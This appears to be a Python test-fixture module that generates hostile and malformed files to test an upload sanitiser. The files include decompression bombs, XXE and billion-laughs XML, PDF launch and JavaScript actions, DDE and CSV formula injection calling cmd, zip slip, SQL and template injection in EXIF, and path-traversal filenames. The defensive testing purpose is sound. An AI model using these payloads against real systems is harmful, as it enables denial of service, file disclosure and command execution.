"""A corpus of files that mean harm or are broken, made anew at each run; nothing is downloaded.

`corpus()` yields what is sent to which door under which name. A file is either refused with a
sentence, or (photos only) its pixels are taken and everything else is gone: `may_clean`.
"""

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pikepdf
from PIL import Image, ImageDraw, ImageOps, PngImagePlugin

PAYLOAD = b"HOSTILE-PAYLOAD-7f3a"
HTML = b"<html><script>alert('" + PAYLOAD + b"')</script></html>"
HEIC = (Path(__file__).parent / "drawn.heic").read_bytes()
_DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Hostile:
    """One bad file: `door` is photo, document or recording."""

    kind: str
    door: str
    name: str
    data: bytes
    may_clean: bool = False


# --- honest files, the ground everything bad is made from -----------------------------------------


def drawing(width: int = 640, height: int = 480) -> Image.Image:
    picture = Image.new("RGB", (width, height), (30, 120, 60))
    pen = ImageDraw.Draw(picture)
    pen.rectangle((width // 8, height // 8, width // 2, height // 2), fill=(230, 180, 20))
    pen.ellipse((width // 2, height // 3, width - 20, height - 20), fill=(20, 60, 200))
    return picture


def photo(kind: str = "JPEG", width: int = 640, height: int = 480, **options: object) -> bytes:
    out = io.BytesIO()
    drawing(width, height).save(out, kind, **options)
    return out.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1) -> bytes:
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page()
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, deterministic_id=True)
    return out.getvalue()


def package(parts: dict[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as file:
        for name, body in parts.items():
            file.writestr(name, body)
    return out.getvalue()


def docx(more: dict[str, bytes | str] | None = None, main: str = _DOCX_MAIN) -> bytes:
    return package(_docx_parts(main) | (more or {}))


def _docx_parts(main: str = _DOCX_MAIN) -> dict[str, bytes | str]:
    return {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'content-types"><Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
        "_rels/.rels": _rels(
            f'<Relationship Id="r1" Type="{_REL}/officeDocument" Target="word/document.xml"/>'
        ),
        "word/document.xml": "<document><body><p>Kính gửi Ủy ban nhân dân xã</p></body></document>",
    }


def xlsx(more: dict[str, bytes | str] | None = None) -> bytes:
    parts = _docx_parts(_XLSX_MAIN)
    del parts["word/document.xml"]
    sheet = "<worksheet><sheetData><row><c><v>1</v></c></row></sheetData></worksheet>"
    return package(parts | {"xl/worksheets/sheet1.xml": sheet} | (more or {}))


def odt(
    body: str = "<text:p>Kính gửi</text:p>", more: dict[str, bytes | str] | None = None
) -> bytes:
    content = (
        '<office:document-content xmlns:office="o" xmlns:text="t" xmlns:draw="d" '
        f'xmlns:xlink="x" xmlns:script="s">{body}</office:document-content>'
    )
    mimetype = "application/vnd.oasis.opendocument.text"
    return package(
        {"mimetype": mimetype, "content.xml": content} | (more or {}), zipfile.ZIP_STORED
    )


def _rels(inside: str) -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{inside}</Relationships>"
    )


def _external(kind: str, target: str) -> str:
    return _rels(
        f'<Relationship Id="r9" Type="{_REL}/{kind}" Target="{target}" TargetMode="External"/>'
    )


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(width: int, height: int, kind: int = 0) -> bytes:
    """Return a tiny PNG that says it is enormous and whose rows really unpack to zeros."""
    rows = zlib.compress(b"\0" * min(height * ((width + 7) // 8 + 1), 60_000_000), 9)
    head = struct.pack(">IIBBBBB", width, height, 1, kind, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", head)
        + png_chunk(b"IDAT", rows)
        + png_chunk(b"IEND", b"")
    )


# --- the corpus -----------------------------------------------------------------------------------


def corpus() -> Iterator[Hostile]:
    """Yield every bad file."""
    yield from _bad_photos()
    yield from _bad_notes()
    yield from _disguises()
    yield from _bad_pdfs()
    yield from _bad_office()
    yield from _bad_packages()
    yield from _bad_tables()
    yield from _bad_recordings()
    yield from _truncated()


def _bad_photos() -> Iterator[Hostile]:
    jpeg, png, webp = photo(), photo("PNG"), photo("WEBP")
    yield Hostile("empty", "photo", "a.jpg", b"")
    yield Hostile("one byte", "photo", "a.jpg", b"\xff")
    yield Hostile("jpeg magic only", "photo", "a.jpg", b"\xff\xd8\xff")
    yield Hostile("png magic only", "photo", "a.png", png[:8])
    yield Hostile("webp magic only", "photo", "a.webp", webp[:12])
    yield Hostile("heic magic only", "photo", "a.heic", HEIC[:12])
    yield Hostile("png bomb of pixels", "photo", "a.png", png_bomb(60_000, 60_000))
    yield Hostile("png bomb at the limit", "photo", "a.png", png_bomb(7_071, 7_071), may_clean=True)
    yield Hostile("png claims 4 GB", "photo", "a.png", png_bomb(2**31 - 1, 2**31 - 1))
    yield Hostile("png without width", "photo", "a.png", png_bomb(0, 100))
    yield Hostile(
        "png chunk longer than the file",
        "photo",
        "a.png",
        png[:33] + struct.pack(">I", 2**32 - 1) + png[37:],
        may_clean=True,
    )
    yield Hostile("png with a wrong checksum", "photo", "a.png", png[:29] + b"\0\0\0\0" + png[33:])
    many = b"".join(png_chunk(b"tEXt", b"k\0" + b"x" * 40) for _ in range(5_000))
    yield Hostile(
        "png with 5,000 texts", "photo", "a.png", png[:33] + many + png[33:], may_clean=True
    )
    text = png_chunk(b"zTXt", b"k\0\0" + zlib.compress(b"\0" * 80_000_000, 9))
    yield Hostile("png text bomb", "photo", "a.png", png[:33] + text + png[33:], may_clean=True)
    yield Hostile(
        "jpeg claims 65535 x 65535", "photo", "a.jpg", _jpeg_claiming(jpeg, 65_535, 65_535)
    )
    yield Hostile("jpeg of no height", "photo", "a.jpg", _jpeg_claiming(jpeg, 640, 0))
    yield Hostile(
        "jpeg larger than its data",
        "photo",
        "a.jpg",
        _jpeg_claiming(jpeg, 5_000, 5_000),
        may_clean=True,
    )
    yield Hostile(
        "jpeg segment without end", "photo", "a.jpg", b"\xff\xd8\xff\xe0\xff\xff" + b"\0" * 50
    )
    yield Hostile("jpeg of fill bytes", "photo", "a.jpg", b"\xff\xd8" + b"\xff" * 100_000)
    yield Hostile(
        "jpeg of 10,000 segments",
        "photo",
        "a.jpg",
        b"\xff\xd8" + b"\xff\xe1\x00\x04ab" * 10_000 + jpeg[2:],
    )
    yield Hostile("webp claims 16384 x 16384", "photo", "a.webp", _webp_claiming(16_384, 16_384))
    yield Hostile("webp without a picture", "photo", "a.webp", _webp_claiming(640, 480))
    yield Hostile("animated webp of 300 frames", "photo", "a.webp", _animated(), may_clean=True)
    yield Hostile("heic claims 60000 x 60000", "photo", "a.heic", _heic_claiming(60_000, 60_000))
    yield Hostile(
        "heic larger than its data", "photo", "a.heic", _heic_claiming(6_000, 6_000), may_clean=True
    )
    yield Hostile("heic box of 4 GB", "photo", "a.heic", b"\xff\xff\xff\xff" + HEIC[4:])
    yield Hostile(
        "heic boxes in a circle", "photo", "a.heic", HEIC[:28] + b"\0\0\0\x08meta" * 2_000
    )
    yield Hostile("heic without sizes", "photo", "a.heic", HEIC.replace(b"ispe", b"free"))
    yield Hostile("photo of 15 MB and one byte", "photo", "a.jpg", jpeg + b"\0" * 15 * 2**20)


def _bad_notes() -> Iterator[Hostile]:
    for kind, value in {
        "html": HTML.decode(),
        "sql": f"'; DROP TABLE attachments_attachment; -- {PAYLOAD.decode()}",
        "template": "{{ 7*7 }}{% load x %}" + PAYLOAD.decode(),
    }.items():
        exif = Image.Exif()
        exif[0x010E] = exif[0x013B] = value
        yield Hostile(
            f"exif with {kind}", "photo", "a.jpg", photo(exif=exif.tobytes()), may_clean=True
        )
    loop = b"Exif\0\0MM\0*\0\0\0\x08" + b"\0\x01\x87\x69\0\x04\0\0\0\x01\0\0\0\x08\0\0\0\x08"
    yield Hostile("exif in a circle", "photo", "a.jpg", photo(exif=loop), may_clean=True)
    exif = Image.Exif()
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (1e9, 0.0, 0.0), "E", (1.0, 0.0, 0.0)
    yield Hostile(
        "position off the earth", "photo", "a.jpg", photo(exif=exif.tobytes()), may_clean=True
    )
    yield Hostile(
        "broken colour profile", "photo", "a.jpg", photo(icc_profile=PAYLOAD * 100), may_clean=True
    )
    yield Hostile("comment with html", "photo", "a.jpg", photo(comment=HTML), may_clean=True)


def _disguises() -> Iterator[Hostile]:
    jpeg, zipped = photo(), package({"index.html": HTML})
    svg = b"<svg xmlns='http://www.w3.org/2000/svg'><script>" + PAYLOAD + b"</script></svg>"
    yield Hostile("svg as png", "photo", "a.png", svg)
    yield Hostile("html as jpg", "photo", "a.jpg", HTML)
    yield Hostile("xml as jpg", "photo", "a.jpg", b"<?xml version='1.0'?><a/>")
    yield Hostile("gif with script", "photo", "a.gif", b"GIF89a/*" + PAYLOAD + b"*/=1;")
    yield Hostile("bmp", "photo", "a.bmp", photo("BMP"))
    yield Hostile("tiff as jpg", "photo", "a.jpg", photo("TIFF"))
    yield Hostile("avif as jpg", "photo", "a.jpg", photo("AVIF"))
    yield Hostile("photo named as a program", "photo", "a.exe", jpeg)
    yield Hostile("photo named as a page", "photo", "a.html", jpeg)
    yield Hostile("photo named as pdf", "photo", "a.pdf", jpeg)
    yield Hostile("pdf as photo", "photo", "a.jpg", pdf())
    yield Hostile("photo as pdf", "document", "a.pdf", jpeg)
    yield Hostile("program as pdf", "document", "a.pdf", b"MZ" + b"\0" * 200)
    yield Hostile("elf as jpg", "photo", "a.jpg", b"\x7fELF" + b"\0" * 200)
    yield Hostile("jpeg and html", "photo", "a.jpg", jpeg + HTML, may_clean=True)
    yield Hostile("jpeg and zip", "photo", "a.jpg", jpeg + zipped, may_clean=True)
    yield Hostile("png and zip", "photo", "a.png", photo("PNG") + zipped, may_clean=True)
    yield Hostile("pdf and zip", "document", "a.pdf", pdf() + zipped)
    yield Hostile("archive", "document", "a.zip", zipped)
    yield Hostile("archive as docx", "document", "a.docx", zipped)
    yield Hostile("docx as pdf", "document", "a.pdf", docx())
    yield Hostile("xlsx as docx", "document", "a.docx", xlsx())
    yield Hostile("html as csv", "document", "a.csv", HTML)
    yield Hostile("svg as csv", "document", "a.csv", svg)
    yield Hostile("rtl name", "photo", "anh\u202egpj.exe", jpeg)
    yield Hostile("nul name", "document", "a.pdf\0.exe", HTML)
    yield Hostile("path as name", "document", "../../etc/passwd", b"root:x:0:0")


def _on_opening(**entries: object) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary({f"/{k}": v for k, v in entries.items()})

    return change


def _embedded(document: pikepdf.Pdf) -> None:
    document.attachments["a.exe"] = b"MZ"


def _form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.String("x"))


def _hidden(document: pikepdf.Pdf) -> None:
    page = document.pages[0]
    page.obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1"))


def _circle(document: pikepdf.Pdf) -> None:
    document.Root.Pages.Kids[0] = document.Root.Pages


def _nested(document: pikepdf.Pdf) -> None:
    deep = pikepdf.Array()
    for _ in range(200):
        deep = pikepdf.Array([deep])
    document.Root.Deep = deep


def _bad_pdfs() -> Iterator[Hostile]:
    action = _on_opening

    name = pikepdf.Name
    yield Hostile(
        "pdf with javascript",
        "document",
        "a.pdf",
        pdf(action(S=name.JavaScript, JS="app.alert(1)")),
    )
    yield Hostile("pdf that launches", "document", "a.pdf", pdf(action(S=name.Launch, F="cmd.exe")))
    yield Hostile(
        "pdf that submits", "document", "a.pdf", pdf(action(S=name.SubmitForm, F="http://x"))
    )
    yield Hostile(
        "pdf that opens another", "document", "a.pdf", pdf(action(S=name.GoToR, F="b.pdf"))
    )

    for kind, change in (
        ("embedded file", _embedded),
        ("xfa form", _form),
        ("page action", _hidden),
        ("pages in a circle", _circle),
        ("200 nested arrays", _nested),
    ):
        yield Hostile(f"pdf with {kind}", "document", "a.pdf", pdf(change))
    yield Hostile("pdf of 2,001 pages", "document", "a.pdf", pdf(pages=2_001))
    yield Hostile("pdf of no page", "document", "a.pdf", pdf(pages=0))
    locked = io.BytesIO()
    document = pikepdf.new()
    document.add_blank_page()
    document.save(locked, encryption=pikepdf.Encryption(user="x", owner="y"))
    yield Hostile("pdf with a password", "document", "a.pdf", locked.getvalue())
    yield Hostile("pdf magic only", "document", "a.pdf", b"%PDF-1.7\n")
    yield Hostile("pdf of noise", "document", "a.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40)


def _bad_office() -> Iterator[Hostile]:
    rels = "word/_rels/document.xml.rels"
    yield Hostile(
        "docx with outside template",
        "document",
        "a.docx",
        docx({rels: _external("attachedTemplate", "http://bad.example/t.dotm")}),
    )
    yield Hostile(
        "docx with outside picture",
        "document",
        "a.docx",
        docx({rels: _external("image", "file:///etc/passwd")}),
    )
    yield Hostile(
        "docx with script link",
        "document",
        "a.docx",
        docx({rels: _external("hyperlink", "javascript:alert(1)")}),
    )
    yield Hostile("docx with macros", "document", "a.docx", docx({"word/vbaProject.bin": b"x"}))
    yield Hostile(
        "docm as docx",
        "document",
        "a.docx",
        docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    )
    yield Hostile(
        "docx with an object", "document", "a.docx", docx({"word/embeddings/oleObject1.bin": b"x"})
    )
    yield Hostile(
        "docx with dde field",
        "document",
        "a.docx",
        docx({"word/document.xml": "<w><instrText>DDEAUTO c:\\cmd.exe</instrText></w>"}),
    )
    xxe = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    yield Hostile(
        "docx with outside entity", "document", "a.docx", docx({"word/document.xml": xxe})
    )
    laughs = (
        "<!DOCTYPE a ["
        + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
        + "]><a>&l9;</a>"
    )
    yield Hostile("docx with a billion laughs", "document", "a.docx", docx({"_rels/.rels": laughs}))
    yield Hostile("docx of broken xml", "document", "a.docx", docx({"_rels/.rels": "<a><b></a>"}))
    yield Hostile(
        "docx that is utf-16",
        "document",
        "a.docx",
        docx({"word/document.xml": xxe.encode("utf-16")}),
    )
    yield Hostile("xlsx with macros", "document", "a.xlsx", xlsx({"xl/vbaProject.bin": b"x"}))
    yield Hostile(
        "xlsx with old macro sheet", "document", "a.xlsx", xlsx({"xl/macrosheets/s.xml": "<a/>"})
    )
    yield Hostile(
        "xlsx with outside book",
        "document",
        "a.xlsx",
        xlsx({"xl/externalLinks/externalLink1.xml": "<a/>"}),
    )
    cell = "<worksheet><c><f>cmd|'/c calc'!A0</f></c></worksheet>"
    yield Hostile(
        "xlsx that starts a program", "document", "a.xlsx", xlsx({"xl/worksheets/s2.xml": cell})
    )
    yield Hostile(
        "odt with outside picture",
        "document",
        "a.odt",
        odt('<draw:image xlink:href="http://bad.example/a.png"/>'),
    )
    yield Hostile(
        "odt with a macro", "document", "a.odt", odt(more={"Basic/Standard/M.xml": "<a/>"})
    )
    yield Hostile(
        "odt with a listener",
        "document",
        "a.odt",
        odt('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'),
    )
    yield Hostile(
        "odt with an object", "document", "a.odt", odt(more={"Object 1/content.xml": "<a/>"})
    )
    yield Hostile("odt with an entity", "document", "a.odt", odt(more={"content.xml": xxe}))
    manifest = "<m><manifest:encryption-data/></m>"
    yield Hostile(
        "odt with a password", "document", "a.odt", odt(more={"META-INF/manifest.xml": manifest})
    )
    yield Hostile(
        "presentation",
        "document",
        "a.odt",
        package(
            {"mimetype": "application/vnd.oasis.opendocument.presentation", "content.xml": "<a/>"}
        ),
    )


def _bad_packages() -> Iterator[Hostile]:
    yield Hostile("zip bomb", "document", "a.docx", docx({"word/media/a.bin": b"\0" * 40_000_000}))
    yield Hostile(
        "zip of 10,001 parts",
        "document",
        "a.docx",
        docx({f"word/{n}.xml": "" for n in range(10_001)}),
    )
    yield Hostile("zip slip", "document", "a.docx", docx({"../../../etc/cron.d/x": "x"}))
    yield Hostile("zip of absolute names", "document", "a.docx", docx({"/etc/passwd": "x"}))
    yield Hostile("zip inside zip", "document", "a.docx", docx({"word/a.zip": package({"a": "b"})}))
    whole = docx()
    yield Hostile("zip part longer than told", "document", "a.docx", _short_told(whole))
    yield Hostile("zip of overlapping parts", "document", "a.docx", _overlapping())
    yield Hostile("zip with a password", "document", "a.docx", _flagged(whole))
    twice = io.BytesIO(whole)
    with zipfile.ZipFile(twice, "a") as file:
        file.writestr("word/document2.xml", "<a/>")
    same = twice.getvalue().replace(b"word/document2.xml", b"word/document.xml\0")
    yield Hostile("zip name with nul", "document", "a.docx", same)


def _bad_tables() -> Iterator[Hostile]:
    yield Hostile(
        "csv that starts a program", "document", "a.csv", b"ten,so\n=cmd|'/c calc'!A0,1\n"
    )
    yield Hostile("csv with plus", "document", "a.csv", b"a\n+cmd|' /c x'!A1\n")
    yield Hostile("csv with dde", "document", "a.csv", b'a\n"=DDE(""cmd"";""/c x"";""x"")"\n')
    yield Hostile("csv of zeros", "document", "a.csv", b"\0" * 1_000)
    yield Hostile("csv cell of 1 MB", "document", "a.csv", b'"' + b"x" * 1_000_000 + b'"')
    yield Hostile("csv of too many rows", "document", "a.csv", b"1\n" * 1_048_577)


def _bad_recordings() -> Iterator[Hostile]:
    wav = b"RIFF" + struct.pack("<I", 2**32 - 1) + b"WAVEfmt "
    yield Hostile("wav of a wrong length", "recording", "a.wav", wav)
    yield Hostile("html as mp3", "recording", "a.mp3", HTML)
    yield Hostile("mp3 as wav", "recording", "a.wav", b"ID3\x04" + b"\0" * 100)
    yield Hostile("photo as m4a", "recording", "a.m4a", HEIC)
    yield Hostile("empty recording", "recording", "a.mp3", b"")


def _truncated() -> Iterator[Hostile]:
    whole = {
        "a.jpg": photo(),
        "a.png": photo("PNG"),
        "a.webp": photo("WEBP"),
        "a.heic": HEIC,
        "a.pdf": pdf(),
        "a.docx": docx(),
        "a.odt": odt(),
    }
    for name, data in whole.items():
        door = "document" if name[2:] in {"pdf", "docx", "odt"} else "photo"
        for share in (1, 10, 25, 50, 75, 90):
            cut = data[: max(1, len(data) * share // 100)]
            yield Hostile(f"{name} cut at {share} %", door, name, cut)


def _jpeg_claiming(jpeg: bytes, width: int, height: int) -> bytes:
    at = jpeg.index(b"\xff\xc0") + 5
    return jpeg[:at] + struct.pack(">HH", height, width) + jpeg[at + 4 :]


def _webp_claiming(width: int, height: int) -> bytes:
    extended = (
        struct.pack("<I", 0)
        + (width - 1).to_bytes(3, "little")
        + (height - 1).to_bytes(3, "little")
    )
    body = b"WEBPVP8X" + struct.pack("<I", len(extended)) + extended
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _heic_claiming(width: int, height: int) -> bytes:
    at = HEIC.index(b"ispe") + 8
    return HEIC[:at] + struct.pack(">II", width, height) + HEIC[at + 8 :]


def _animated() -> bytes:
    out = io.BytesIO()
    first = drawing(64, 64)
    frames = [ImageOps.posterize(first, 1 + n % 8) for n in range(300)]
    first.save(out, "WEBP", save_all=True, append_images=frames)
    return out.getvalue()


def _short_told(whole: bytes) -> bytes:
    """Return a package whose directory tells one byte less than its part unpacks to."""
    at = whole.index(b"PK\x01\x02") + 24
    size = struct.unpack_from("<I", whole, at)[0]
    return whole[:at] + struct.pack("<I", size - 1) + whole[at + 4 :]


def _overlapping() -> bytes:
    """Return a package whose second part begins inside its first."""
    whole = docx()
    first = whole.index(b"PK\x01\x02")
    second = whole.index(b"PK\x01\x02", first + 4)
    return whole[: second + 42] + struct.pack("<I", 5) + whole[second + 46 :]


def _flagged(whole: bytes) -> bytes:
    at = whole.index(b"PK\x01\x02") + 8
    return whole[:at] + b"\x01\0" + whole[at + 2 :]


def with_everything(kind: str = "JPEG") -> bytes:
    """Return an honest photo that carries every kind of note, each holding the payload."""
    word = PAYLOAD.decode()
    exif = Image.Exif()
    exif[0x010F], exif[0x0110], exif[0x0131] = word, word, word
    notes = exif.get_ifd(0x8769)
    notes[0x9003], notes[0x9011] = "2026:08:21 09:15:00", "+07:00"
    notes[0x927C] = PAYLOAD * 4  # maker notes
    notes[0x9286] = b"ASCII\0\0\0" + PAYLOAD
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (22.0, 18.0, 30.0), "E", (103.0, 33.0, 36.0)
    exif[0x0112] = 6  # the camera was held upright
    options: dict[str, object] = {"exif": exif.tobytes()}
    if kind == "JPEG":
        options |= {"comment": PAYLOAD, "xmp": _xmp(), "icc_profile": _profile()}
    elif kind == "WEBP":
        options |= {"xmp": _xmp(), "icc_profile": _profile()}
    else:
        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", word)
        info.add_itxt("XML:com.adobe.xmp", _xmp().decode())
        options |= {"pnginfo": info, "icc_profile": _profile()}
    data = photo(kind, **options)
    return _with_thumbnail(data) if kind == "JPEG" else data


def _xmp() -> bytes:
    said = json.dumps(PAYLOAD.decode())
    return f"<x:xmpmeta xmlns:x='adobe:ns:meta/'><note v={said}/></x:xmpmeta>".encode()


def _profile() -> bytes:
    """Return a real sRGB profile with the payload behind its end, as some programs leave it."""
    from PIL import ImageCms

    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes() + PAYLOAD


def _with_thumbnail(jpeg: bytes) -> bytes:
    """Return the photo with a second, small JPEG in a segment of its own, as cameras add."""
    small = photo("JPEG", 80, 60, comment=PAYLOAD)
    body = b"JFXX\0\x10" + small
    return jpeg[:2] + b"\xff\xe0" + struct.pack(">H", len(body) + 2) + body + jpeg[2:]
